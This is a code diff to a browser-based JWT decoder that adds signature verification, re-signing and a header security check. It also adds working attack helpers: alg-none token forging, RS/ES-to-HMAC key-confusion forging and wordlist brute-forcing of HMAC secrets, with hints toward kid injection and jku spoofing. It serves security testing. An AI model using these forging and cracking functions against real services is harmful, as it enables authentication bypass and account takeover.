@@ -1,6 +1,6 @@
 /**
  * JWT 解析工具
- * @description JWT Token 解析与验证
+ * @description JWT Token 解析、签名验证、重新签名与常见攻击辅助
  * @author Evil0ctal
  * @license Apache-2.0
  */
@@ -20,34 +20,59 @@
     const signatureEl = document.getElementById('signature-value');
     const algEl = document.getElementById('jwt-alg');
     const timesEl = document.getElementById('jwt-times');
-
-    /**
-     * Base64URL 解码
-     * @param {string} str - Base64URL 编码的字符串
-     * @returns {string} - 解码后的字符串
-     */
-    function base64UrlDecode(str) {
-        // 将 Base64URL 转换为标准 Base64
-        let base64 = str.replace(/-/g, '+').replace(/_/g, '/');
-
-        // 添加填充
-        const pad = base64.length % 4;
-        if (pad) {
-            base64 += '='.repeat(4 - pad);
-        }
-
-        // 解码
-        try {
-            return decodeURIComponent(
-                atob(base64)
-                    .split('')
-                    .map(c => '%' + ('00' + c.charCodeAt(0).toString(16)).slice(-2))
-                    .join('')
-            );
-        } catch (e) {
-            return atob(base64);
-        }
-    }
+    const warningsSectionEl = document.getElementById('jwt-warnings-section');
+    const warningsEl = document.getElementById('jwt-warnings');
+    const keyInputEl = document.getElementById('key-input');
+    const secretFormatEl = document.getElementById('secret-format');
+    const verifyBtnEl = document.getElementById('verify-btn');
+    const verifyResultEl = document.getElementById('verify-result');
+    const editHeaderEl = document.getElementById('edit-header');
+    const editPayloadEl = document.getElementById('edit-payload');
+    const signBtnEl = document.getElementById('sign-btn');
+    const noneBtnEl = document.getElementById('attack-none-btn');
+    const confusionBtnEl = document.getElementById('attack-confusion-btn');
+    const forgedEl = document.getElementById('forged-output');
+    const wordlistEl = document.getElementById('wordlist');
+    const wordlistFileEl = document.getElementById('wordlist-file');
+    const wordlistInfoEl = document.getElementById('wordlist-info');
+    const crackBtnEl = document.getElementById('crack-btn');
+    const crackCancelBtnEl = document.getElementById('crack-cancel-btn');
+    const crackProgressEl = document.getElementById('crack-progress');
+    const crackFillEl = document.getElementById('crack-progress-fill');
+    const crackStatsEl = document.getElementById('crack-stats');
+    const crackResultEl = document.getElementById('crack-result');
+
+    const encoder = new TextEncoder();
+
+    // JWS 算法与 WebCrypto 参数的对应关系
+    const ALGORITHMS = {
+        HS256: { kind: 'hmac', hash: 'SHA-256' },
+        HS384: { kind: 'hmac', hash: 'SHA-384' },
+        HS512: { kind: 'hmac', hash: 'SHA-512' },
+        RS256: { kind: 'rsa', hash: 'SHA-256' },
+        RS384: { kind: 'rsa', hash: 'SHA-384' },
+        RS512: { kind: 'rsa', hash: 'SHA-512' },
+        PS256: { kind: 'pss', hash: 'SHA-256', saltLength: 32 },
+        PS384: { kind: 'pss', hash: 'SHA-384', saltLength: 48 },
+        PS512: { kind: 'pss', hash: 'SHA-512', saltLength: 64 },
+        ES256: { kind: 'ecdsa', hash: 'SHA-256', curve: 'P-256', size: 64 },
+        ES384: { kind: 'ecdsa', hash: 'SHA-384', curve: 'P-384', size: 96 },
+        ES512: { kind: 'ecdsa', hash: 'SHA-512', curve: 'P-521', size: 132 },
+        EdDSA: { kind: 'eddsa' }
+    };
+
+    // 服务端可能据此查找或下载密钥的 Header 字段
+    const RISKY_HEADERS = ['kid', 'jku', 'x5u', 'jwk', 'x5c'];
+
+    // alg: none 的大小写变体（部分库只过滤小写 none）
+    const NONE_VARIANTS = ['none', 'None', 'NONE', 'nOnE'];
+
+    // 密钥爆破 Worker 脚本
+    const CRACK_WORKER = 'tools/protocol/jwt/jwt-crack-worker.js';
+
+    // 已加载的字典文件与正在运行的爆破任务
+    let wordlistFile = null;
+    let crackJob = null;
 
     /**
      * 解析 JWT
@@ -76,11 +101,11 @@
 
         try {
             // 解码 Header
-            const headerJson = base64UrlDecode(parts[0]);
+            const headerJson = REOT.bytes.toText(REOT.bytes.fromBase64(parts[0]));
             const header = JSON.parse(headerJson);
 
             // 解码 Payload
-            const payloadJson = base64UrlDecode(parts[1]);
+            const payloadJson = REOT.bytes.toText(REOT.bytes.fromBase64(parts[1]));
             const payload = JSON.parse(payloadJson);
 
             // Signature (保持 Base64URL 格式)
@@ -101,12 +126,306 @@
         }
     }
 
+    /**
+     * 编码 JWT 的一段（JSON → Base64URL）
+     * @param {Object} value
+     * @returns {string}
+     */
+    function encodeSegment(value) {
+        return REOT.bytes.toBase64Url(encoder.encode(JSON.stringify(value)));
+    }
+
+    /**
+     * 将 JSON 文本或对象统一为对象
+     * @param {string|Object} value
+     * @param {string} name - 用于错误提示
+     * @returns {Object}
+     */
+    function toObject(value, name) {
+        if (typeof value !== 'string') {
+            return value;
+        }
+        try {
+            return JSON.parse(value);
+        } catch (e) {
+            throw new Error(`${name} 不是有效的 JSON: ${e.message}`);
+        }
+    }
+
+    /**
+     * 获取算法定义
+     * @param {string} alg - JWS 算法名
+     * @returns {Object}
+     */
+    function getAlgorithm(alg) {
+        const spec = Object.prototype.hasOwnProperty.call(ALGORITHMS, alg) ? ALGORITHMS[alg] : null;
+        if (!spec) {
+            throw new Error(`不支持的签名算法: ${alg}`);
+        }
+        return spec;
+    }
+
+    /**
+     * 按算法导入密钥
+     * HMAC 密钥为文本（按 secretFormat 解析）或 oct 类型 JWK，其余算法接受 PEM / JWK / JWKS
+     * @param {string} alg - JWS 算法名
+     * @param {string|Uint8Array|Object} key
+     * @param {string} usage - sign 或 verify
+     * @param {Object} [options]
+     * @param {string} [options.secretFormat='text'] - HMAC 密钥格式（text / base64 / hex）
+     * @param {string} [options.kid] - 从 JWKS 中选择密钥
+     * @returns {Promise<{key: CryptoKey, params: Object}>} - 密钥与 sign/verify 参数
+     */
+    async function importJwtKey(alg, key, usage, options = {}) {
+        const spec = getAlgorithm(alg);
+
+        if (spec.kind === 'hmac') {
+            const params = { name: 'HMAC', hash: spec.hash };
+            if (typeof key === 'string' && /^\s*\{/.test(key)) {
+                return { key: await REOT.keys.importKey(key, params, [usage]), params };
+            }
+            const secret = ArrayBuffer.isView(key)
+                ? key
+                : REOT.bytes.parse(String(key ?? ''), options.secretFormat || 'text');
+            // 与 REOT.hmac 一致：WebCrypto 不接受空密钥，而空密钥补零后与单个 0x00 字节等价
+            const raw = secret.length ? secret : new Uint8Array(1);
+            return { key: await crypto.subtle.importKey('raw', raw, params, false, [usage]), params };
+        }
+
+        const parsed = REOT.keys.parse(key, { kid: options.kid });
+        let importParams;
+        let params;
+        switch (spec.kind) {
+        case 'rsa':
+            importParams = params = { name: 'RSASSA-PKCS1-v1_5', hash: spec.hash };
+            break;
+        case 'pss':
+            importParams = { name: 'RSA-PSS', hash: spec.hash };
+            params = { name: 'RSA-PSS', saltLength: spec.saltLength };
+            break;
+        case 'ecdsa':
+            if (parsed.curve !== spec.curve) {
+                throw new Error(`${alg} 需要 ${spec.curve} 曲线的密钥，当前为 ${parsed.curve || parsed.kty}`);
+            }
+            importParams = { name: 'ECDSA', namedCurve: spec.curve };
+            params = { name: 'ECDSA', hash: spec.hash };
+            break;
+        default:
+            if (parsed.kty !== 'OKP' || !/^Ed/.test(parsed.curve)) {
+                throw new Error('EdDSA 需要 Ed25519 或 Ed448 密钥');
+            }
+            importParams = params = { name: parsed.curve };
+        }
+
+        if (spec.kind !== 'ecdsa' && spec.kind !== 'eddsa' && parsed.kty !== 'RSA') {
+            throw new Error(`${alg} 需要 RSA 密钥，当前为 ${parsed.kty}`);
+        }
+        if (usage === 'sign' && parsed.type !== 'private') {
+            throw new Error('签名需要私钥');
+        }
+        return { key: await REOT.keys.importKey(parsed, importParams, [usage]), params };
+    }
+
+    /**
+     * 验证 JWT 签名
+     * @param {string} token
+     * @param {string|Uint8Array|Object} key - HMAC 密钥或 PEM / JWK 公钥（提供私钥时自动派生公钥）
+     * @param {Object} [options] - 同 importJwtKey，kid 默认取 Header 中的 kid
+     * @returns {Promise<{valid: boolean, alg: string, reason: (string|undefined)}>}
+     */
+    async function verify(token, key, options = {}) {
+        const decoded = decode(token);
+        const alg = decoded.header.alg;
+        if (!alg || String(alg).toLowerCase() === 'none') {
+            return { valid: false, alg, reason: REOT.i18n.t('tools.jwt.unsigned', 'alg 为 none，令牌没有签名') };
+        }
+
+        const spec = getAlgorithm(alg);
+        const signature = REOT.bytes.fromBase64(decoded.raw.signature);
+        if (spec.size && signature.length !== spec.size) {
+            return {
+                valid: false,
+                alg,
+                reason: REOT.i18n.t('tools.jwt.signatureSize', '{alg} 签名应为 {expected} 字节（r||s），实际为 {actual} 字节', {
+                    alg, expected: spec.size, actual: signature.length
+                })
+            };
+        }
+
+        const imported = await importJwtKey(alg, key, 'verify', { kid: decoded.header.kid, ...options });
+        const data = encoder.encode(`${decoded.raw.header}.${decoded.raw.payload}`);
+        const valid = await crypto.subtle.verify(imported.params, imported.key, signature, data);
+        return { valid, alg };
+    }
+
+    /**
+     * 生成签名后的 JWT（alg 取自 Header，none 时签名部分为空）
+     * @param {string|Object} header - Header 对象或 JSON 文本
+     * @param {string|Object} payload - Payload 对象或 JSON 文本
+     * @param {string|Uint8Array|Object} key - HMAC 密钥或 PEM / JWK 私钥
+     * @param {Object} [options] - 同 importJwtKey
+     * @returns {Promise<string>}
+     */
+    async function sign(header, payload, key, options = {}) {
+        header = toObject(header, 'Header');
+        payload = toObject(payload, 'Payload');
+        const signingInput = `${encodeSegment(header)}.${encodeSegment(payload)}`;
+        if (!header.alg || String(header.alg).toLowerCase() === 'none') {
+            return `${signingInput}.`;
+        }
+
+        const imported = await importJwtKey(header.alg, key, 'sign', options);
+        const signature = await crypto.subtle.sign(imported.params, imported.key, encoder.encode(signingInput));
+        return `${signingInput}.${REOT.bytes.toBase64Url(new Uint8Array(signature))}`;
+    }
+
+    /**
+     * alg: none 攻击：生成各种大小写的无签名令牌
+     * @param {string|Object} header
+     * @param {string|Object} payload
+     * @returns {{label: string, token: string}[]}
+     */
+    function forgeNone(header, payload) {
+        header = toObject(header, 'Header');
+        payload = toObject(payload, 'Payload');
+        const payloadSegment = encodeSegment(payload);
+        return NONE_VARIANTS.map(alg => ({
+            label: `alg: ${alg}`,
+            token: `${encodeSegment({ ...header, alg })}.${payloadSegment}.`
+        }));
+    }
+
+    /**
+     * RS/ES → HS 密钥混淆攻击：把公钥本身当作 HMAC 密钥签名
+     * 服务端若按 Header 中的 alg 选择算法、并把验证 RS256 用的公钥直接传给 HMAC，就会接受这些令牌
+     * 依次尝试规范化的 SPKI PEM（带/不带末尾换行）、原始输入文本和 DER 字节
+     * @param {string|Object} header
+     * @param {string|Object} payload
+     * @param {string|Object} publicKey - 公钥 PEM / 证书 / JWK（提供私钥时自动派生公钥）
+     * @returns {Promise<{label: string, token: string}[]>}
+     */
+    async function forgeKeyConfusion(header, payload, publicKey) {
+        header = toObject(header, 'Header');
+        payload = toObject(payload, 'Payload');
+
+        const parsed = REOT.keys.parse(publicKey);
+        const importParams = parsed.kty === 'RSA'
+            ? { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }
+            : parsed.kty === 'EC' ? { name: 'ECDSA', namedCurve: parsed.curve } : { name: parsed.curve };
+        const key = await REOT.keys.importKey(parsed, importParams, ['verify']);
+        const pem = await REOT.keys.exportPem(key);
+        const der = new Uint8Array(await crypto.subtle.exportKey('spki', key));
+
+        const hash = ALGORITHMS[header.alg]?.hash || 'SHA-256';
+        const alg = `HS${hash.slice(4)}`;
+        const candidates = [
+            [REOT.i18n.t('tools.jwt.confusionPemNewline', '{alg} + PEM（末尾换行）', { alg }), encoder.encode(pem + '\n')],
+            [`${alg} + PEM`, encoder.encode(pem)],
+            [`${alg} + DER`, der]
+        ];
+        if (typeof publicKey === 'string') {
+            const original = publicKey.trim();
+            if (original !== pem) {
+                candidates.push([REOT.i18n.t('tools.jwt.confusionOriginalNewline', '{alg} + 原始输入（末尾换行）', { alg }), encoder.encode(original + '\n')]);
+                candidates.push([REOT.i18n.t('tools.jwt.confusionOriginal', '{alg} + 原始输入', { alg }), encoder.encode(original)]);
+            }
+        }
+
+        const forgedHeader = { ...header, alg };
+        const results = [];
+        for (const [label, secret] of candidates) {
+            results.push({ label, token: await sign(forgedHeader, payload, secret) });
+        }
+        return results;
+    }
+
+    /**
+     * 用字典爆破 HS256/384/512 令牌的密钥（在 Worker 池中计算，字典不会离开浏览器）
+     * @param {string} token
+     * @param {string[]|AsyncIterable<string[]>} candidates - 候选密钥数组，或按块产出的（异步）可迭代对象
+     * @param {Object} [options] - 传给 REOT.workers.search 的选项（total / size / onProgress 等）
+     * @returns {{promise: Promise<{secret: string|null, tried: number, elapsed: number, cancelled: boolean}>, cancel: Function}}
+     */
+    function crack(token, candidates, options = {}) {
+        const decoded = decode(token);
+        const alg = decoded.header.alg;
+        const spec = Object.prototype.hasOwnProperty.call(ALGORITHMS, alg) ? ALGORITHMS[alg] : null;
+        if (!spec || spec.kind !== 'hmac') {
+            throw new Error(`密钥爆破仅支持 HS256 / HS384 / HS512，当前为 ${alg}`);
+        }
+
+        const job = REOT.workers.search({
+            ...options,
+            script: CRACK_WORKER,
+            init: {
+                hash: spec.hash,
+                signingInput: `${decoded.raw.header}.${decoded.raw.payload}`,
+                signature: decoded.raw.signature
+            },
+            candidates
+        });
+        return {
+            cancel: job.cancel,
+            promise: job.promise.then(result => ({
+                secret: result.matches.length > 0 ? result.matches[0] : null,
+                tried: result.tried,
+                elapsed: result.elapsed,
+                cancelled: result.cancelled
+            }))
+        };
+    }
+
+    /**
+     * 安全检查：alg: none、过期/未生效/签发时间异常、kid / jku / x5u / jwk / x5c 等 Header 字段
+     * @param {Object} decoded - decode() 的结果
+     * @param {number} [now] - 当前 Unix 时间（秒）
+     * @returns {{level: string, field: string, message: string}[]} - level 为 danger / warning / info
+     */
+    function analyze(decoded, now = Math.floor(Date.now() / 1000)) {
+        const { header, payload } = decoded;
+        const warnings = [];
+        const add = (level, field, key, fallback) => warnings.push({ level, field, message: REOT.i18n.t(`tools.jwt.checks.${key}`, fallback) });
+
+        const alg = header.alg;
+        if (!alg || String(alg).toLowerCase() === 'none') {
+            add('danger', 'alg', 'algNone', '令牌未签名（alg: none），服务端若接受将可任意伪造');
+        } else if (/^HS/.test(alg)) {
+            add('info', 'alg', 'algHmac', '对称签名：可尝试弱密钥爆破；若服务端使用 RSA/EC 公钥验证，可尝试密钥混淆攻击');
+        }
+
+        if (header.kid !== undefined) {
+            add('warning', 'kid', 'kid', 'kid 会被服务端用于查找密钥，可尝试路径穿越、SQL 注入或指向已知内容的文件');
+        }
+        if (header.jku !== undefined || header.x5u !== undefined) {
+            add('danger', header.jku !== undefined ? 'jku' : 'x5u', 'keyUrl', 'Header 指定了密钥 URL，服务端若未校验来源可被替换为攻击者控制的地址');
+        }
+        if (header.jwk !== undefined || header.x5c !== undefined) {
+            add('danger', header.jwk !== undefined ? 'jwk' : 'x5c', 'embeddedKey', 'Header 内嵌了公钥，服务端若直接信任它可被自签名伪造');
+        }
+
+        if (typeof payload.exp === 'number') {
+            if (payload.exp < now) {
+                add('warning', 'exp', 'expired', '令牌已过期');
+            }
+        } else {
+            add('info', 'exp', 'noExp', '未设置过期时间（exp），令牌长期有效');
+        }
+        if (typeof payload.nbf === 'number' && payload.nbf > now) {
+            add('warning', 'nbf', 'notYetValid', '令牌尚未生效（nbf 晚于当前时间）');
+        }
+        if (typeof payload.iat === 'number' && payload.iat > now) {
+            add('warning', 'iat', 'futureIat', '签发时间（iat）晚于当前时间');
+        }
+        return warnings;
+    }
+
     /**
      * 格式化 JSON 并添加语法高亮
      * @param {Object} obj - JSON 对象
+     * @param {string[]} [riskyKeys] - 需要突出显示的字段
      * @returns {string} - 格式化后的 HTML
      */
-    function formatJson(obj) {
+    function formatJson(obj, riskyKeys = []) {
         const json = JSON.stringify(obj, null, 2);
         return json
             .replace(/&/g, '&amp;')
@@ -116,7 +435,10 @@
             .replace(/: "([^"]*)"/g, ': <span class="jwt-string">"$1"</span>')
             .replace(/: (\d+)/g, ': <span class="jwt-number">$1</span>')
             .replace(/: (true|false)/g, ': <span class="jwt-boolean">$1</span>')
-            .replace(/: (null)/g, ': <span class="jwt-null">$1</span>');
+            .replace(/: (null)/g, ': <span class="jwt-null">$1</span>')
+            .replace(/<span class="jwt-key">"([^"]+)"<\/span>/g, (match, key) => (riskyKeys.includes(key)
+                ? `<span class="jwt-key jwt-key--risky">"${key}"</span>`
+                : match));
     }
 
     /**
@@ -135,7 +457,7 @@
      */
     function showResult(result) {
         // 显示 Header
-        headerJsonEl.innerHTML = formatJson(result.header);
+        headerJsonEl.innerHTML = formatJson(result.header, RISKY_HEADERS);
         algEl.textContent = result.header.alg || '';
 
         // 显示 Payload
@@ -187,11 +509,184 @@
         // 显示 Signature
         signatureEl.textContent = result.signature;
 
+        renderWarnings(analyze(result));
+
+        // 填充编辑区，便于修改后重新签名
+        if (editHeaderEl && editPayloadEl) {
+            editHeaderEl.value = JSON.stringify(result.header, null, 2);
+            editPayloadEl.value = JSON.stringify(result.payload, null, 2);
+        }
+        if (verifyResultEl) {
+            verifyResultEl.style.display = 'none';
+        }
+
         // 显示结果，隐藏错误
         resultEl.style.display = 'block';
         errorEl.style.display = 'none';
     }
 
+    /**
+     * 显示安全检查结果
+     * @param {Object[]} warnings - analyze() 的结果
+     */
+    function renderWarnings(warnings) {
+        if (!warningsEl) {
+            return;
+        }
+        warningsEl.innerHTML = '';
+        warnings.forEach(warning => {
+            const item = document.createElement('li');
+            item.className = `jwt-warning jwt-warning--${warning.level}`;
+            const field = document.createElement('code');
+            field.textContent = warning.field;
+            item.append(field, document.createTextNode(warning.message));
+            warningsEl.appendChild(item);
+        });
+        warningsSectionEl.style.display = warnings.length ? 'block' : 'none';
+    }
+
+    /**
+     * 显示验证结果
+     * @param {boolean} valid
+     * @param {string} message
+     */
+    function showVerifyResult(valid, message) {
+        verifyResultEl.textContent = message;
+        verifyResultEl.className = `jwt-verify-result ${valid ? 'valid' : 'invalid'}`;
+        verifyResultEl.style.display = 'block';
+    }
+
+    /**
+     * 显示生成的令牌列表
+     * @param {{label: string, token: string}[]} items
+     */
+    function renderForged(items) {
+        forgedEl.innerHTML = '';
+        items.forEach(({ label, token }) => {
+            const item = document.createElement('div');
+            item.className = 'jwt-forged-item';
+
+            const title = document.createElement('div');
+            title.className = 'jwt-forged-title';
+            const name = document.createElement('span');
+            name.textContent = label;
+
+            const copyBtn = document.createElement('button');
+            copyBtn.className = 'btn btn--sm btn--outline';
+            copyBtn.textContent = REOT.i18n.t('common.copy', '复制');
+            copyBtn.addEventListener('click', async () => {
+                if (await REOT.utils?.copyToClipboard(token)) {
+                    REOT.utils?.showNotification(REOT.i18n.t('common.copied', '已复制'), 'success');
+                }
+            });
+
+            const loadBtn = document.createElement('button');
+            loadBtn.className = 'btn btn--sm btn--outline';
+            loadBtn.textContent = REOT.i18n.t('tools.jwt.loadToken', '载入');
+            loadBtn.addEventListener('click', () => {
+                inputEl.value = token;
+                inputEl.dispatchEvent(new Event('input'));
+            });
+
+            title.append(name, copyBtn, loadBtn);
+            const code = document.createElement('pre');
+            code.className = 'jwt-forged-token';
+            code.textContent = token;
+            item.append(title, code);
+            forgedEl.appendChild(item);
+        });
+        forgedEl.style.display = items.length ? 'flex' : 'none';
+    }
+
+    /**
+     * 显示或清除已加载的字典文件
+     * @param {File|null} file
+     */
+    function setWordlistFile(file) {
+        wordlistFile = file;
+        wordlistInfoEl.innerHTML = '';
+        wordlistEl.disabled = !!file;
+        if (!file) {
+            wordlistInfoEl.style.display = 'none';
+            return;
+        }
+
+        const name = document.createElement('span');
+        name.className = 'file-name';
+        name.textContent = file.name;
+        const size = document.createElement('span');
+        size.className = 'file-size';
+        size.textContent = REOT.utils?.formatBytes ? REOT.utils.formatBytes(file.size) : `${file.size} B`;
+        const removeBtn = document.createElement('button');
+        removeBtn.className = 'btn btn--sm btn--outline';
+        removeBtn.textContent = REOT.i18n.t('tools.jwt.removeWordlist', '移除');
+        removeBtn.addEventListener('click', () => setWordlistFile(null));
+
+        wordlistInfoEl.append(name, size, removeBtn);
+        wordlistInfoEl.style.display = 'flex';
+    }
+
+    /**
+     * 更新爆破进度
+     * @param {{tried: number, total: number|null, rate: number, elapsed: number}} progress
+     * @param {number} [readRatio] - 字典文件的读取进度（0~1），总数未知时用于进度条
+     */
+    function showCrackProgress(progress, readRatio) {
+        const ratio = progress.total ? progress.tried / progress.total : readRatio;
+        crackFillEl.style.width = `${Math.min(100, (ratio || 0) * 100).toFixed(1)}%`;
+        const tried = progress.total ? `${progress.tried.toLocaleString()} / ${progress.total.toLocaleString()}` : progress.tried.toLocaleString();
+        crackStatsEl.textContent = `${REOT.i18n.t('tools.jwt.tried', '已尝试')} ${tried} · ` +
+            `${progress.rate.toLocaleString()} ${REOT.i18n.t('tools.jwt.rate', '次/秒')} · ${(progress.elapsed / 1000).toFixed(1)} s`;
+    }
+
+    /**
+     * 显示爆破结果
+     * @param {{secret: string|null, tried: number, cancelled: boolean}} result
+     */
+    function showCrackResult(result) {
+        crackResultEl.innerHTML = '';
+        if (result.secret === null) {
+            crackResultEl.textContent = result.cancelled
+                ? REOT.i18n.t('tools.jwt.crackCancelled', '已停止')
+                : REOT.i18n.t('tools.jwt.secretNotFound', '字典中没有找到密钥');
+            crackResultEl.className = 'jwt-verify-result invalid';
+        } else {
+            const label = document.createElement('span');
+            label.textContent = `${REOT.i18n.t('tools.jwt.secretFound', '找到密钥')}: `;
+            const secret = document.createElement('code');
+            secret.className = 'jwt-crack-secret';
+            secret.textContent = result.secret === '' ? '""' : result.secret;
+            const useBtn = document.createElement('button');
+            useBtn.className = 'btn btn--sm btn--outline';
+            useBtn.textContent = REOT.i18n.t('tools.jwt.useSecret', '填入密钥');
+            useBtn.addEventListener('click', () => {
+                keyInputEl.value = result.secret;
+                secretFormatEl.value = 'text';
+            });
+            crackResultEl.append(label, secret, useBtn);
+            crackResultEl.className = 'jwt-verify-result valid';
+        }
+        crackResultEl.style.display = 'block';
+    }
+
+    /**
+     * 切换爆破按钮状态
+     * @param {boolean} running
+     */
+    function setCracking(running) {
+        crackBtnEl.disabled = running;
+        crackCancelBtnEl.disabled = !running;
+        wordlistFileEl.disabled = running;
+    }
+
+    /**
+     * 读取当前密钥相关选项
+     * @returns {{secretFormat: string}}
+     */
+    function getKeyOptions() {
+        return { secretFormat: secretFormatEl?.value || 'text' };
+    }
+
     /**
      * 显示错误
      * @param {string} message - 错误信息
@@ -219,6 +714,129 @@
             inputEl.value = '';
             resultEl.style.display = 'none';
             errorEl.style.display = 'none';
+            if (verifyResultEl) {
+                verifyResultEl.style.display = 'none';
+            }
+            if (forgedEl) {
+                renderForged([]);
+            }
+        });
+    }
+
+    // 验证签名
+    if (verifyBtnEl) {
+        verifyBtnEl.addEventListener('click', async () => {
+            try {
+                const result = await verify(inputEl.value, keyInputEl.value, getKeyOptions());
+                if (result.valid) {
+                    showVerifyResult(true, `${REOT.i18n.t('tools.jwt.signatureValid', '签名有效')} (${result.alg})`);
+                } else {
+                    showVerifyResult(false, result.reason || `${REOT.i18n.t('tools.jwt.signatureInvalid', '签名无效')} (${result.alg})`);
+                }
+            } catch (error) {
+                showVerifyResult(false, error.message);
+            }
+        });
+    }
+
+    // 修改后重新签名
+    if (signBtnEl) {
+        signBtnEl.addEventListener('click', async () => {
+            try {
+                const token = await sign(editHeaderEl.value, editPayloadEl.value, keyInputEl.value, getKeyOptions());
+                renderForged([{ label: REOT.i18n.t('tools.jwt.resigned', '重新签名的令牌'), token }]);
+            } catch (error) {
+                REOT.utils?.showNotification(error.message, 'error');
+            }
+        });
+    }
+
+    // alg: none 攻击
+    if (noneBtnEl) {
+        noneBtnEl.addEventListener('click', () => {
+            try {
+                renderForged(forgeNone(editHeaderEl.value, editPayloadEl.value));
+            } catch (error) {
+                REOT.utils?.showNotification(error.message, 'error');
+            }
+        });
+    }
+
+    // RS → HS 密钥混淆攻击
+    if (confusionBtnEl) {
+        confusionBtnEl.addEventListener('click', async () => {
+            try {
+                renderForged(await forgeKeyConfusion(editHeaderEl.value, editPayloadEl.value, keyInputEl.value));
+            } catch (error) {
+                REOT.utils?.showNotification(error.message, 'error');
+            }
+        });
+    }
+
+    // HMAC 密钥爆破
+    if (crackBtnEl) {
+        wordlistFileEl.addEventListener('change', () => {
+            if (wordlistFileEl.files.length > 0) {
+                setWordlistFile(wordlistFileEl.files[0]);
+            }
+            wordlistFileEl.value = '';
+        });
+
+        crackBtnEl.addEventListener('click', async () => {
+            let readRatio = 0;
+            let candidates;
+            let total;
+            if (wordlistFile) {
+                // 大字典按块流式读取，不一次性载入内存
+                candidates = REOT.workers.readLines(wordlistFile, {
+                    onRead: (read, size) => {
+                        readRatio = read / size;
+                    }
+                });
+            } else {
+                candidates = REOT.workers.splitLines(wordlistEl.value);
+                total = candidates.length;
+                if (total === 0) {
+                    REOT.utils?.showNotification(REOT.i18n.t('tools.jwt.wordlistEmpty', '请输入字典或加载字典文件'), 'error');
+                    return;
+                }
+            }
+
+            try {
+                crackJob = crack(inputEl.value, candidates, {
+                    total,
+                    onProgress: progress => showCrackProgress(progress, readRatio)
+                });
+            } catch (error) {
+                REOT.utils?.showNotification(error.message, 'error');
+                return;
+            }
+
+            setCracking(true);
+            crackResultEl.style.display = 'none';
+            showCrackProgress({ tried: 0, total, rate: 0, elapsed: 0 }, 0);
+            crackProgressEl.style.display = 'flex';
+            try {
+                const result = await crackJob.promise;
+                if (!result.cancelled) {
+                    showCrackProgress({
+                        tried: result.tried,
+                        total,
+                        rate: result.elapsed > 0 ? Math.round(result.tried * 1000 / result.elapsed) : 0,
+                        elapsed: result.elapsed
+                    }, result.secret === null ? 1 : readRatio);
+                }
+                showCrackResult(result);
+            } catch (error) {
+                REOT.utils?.showNotification(error.message, 'error');
+            } finally {
+                crackJob = null;
+                setCracking(false);
+            }
+        });
+
+        crackCancelBtnEl.addEventListener('click', () => {
+            crackJob?.cancel();
         });
     }
 
@@ -254,7 +872,7 @@
     });
 
     // 导出到全局
-    window.JWTTool = { decode, base64UrlDecode };
+    window.JWTTool = { decode, verify, sign, forgeNone, forgeKeyConfusion, crack, analyze, ALGORITHMS };
 
     // 设置默认示例数据 (示例 JWT Token)
     if (inputEl && !inputEl.value) {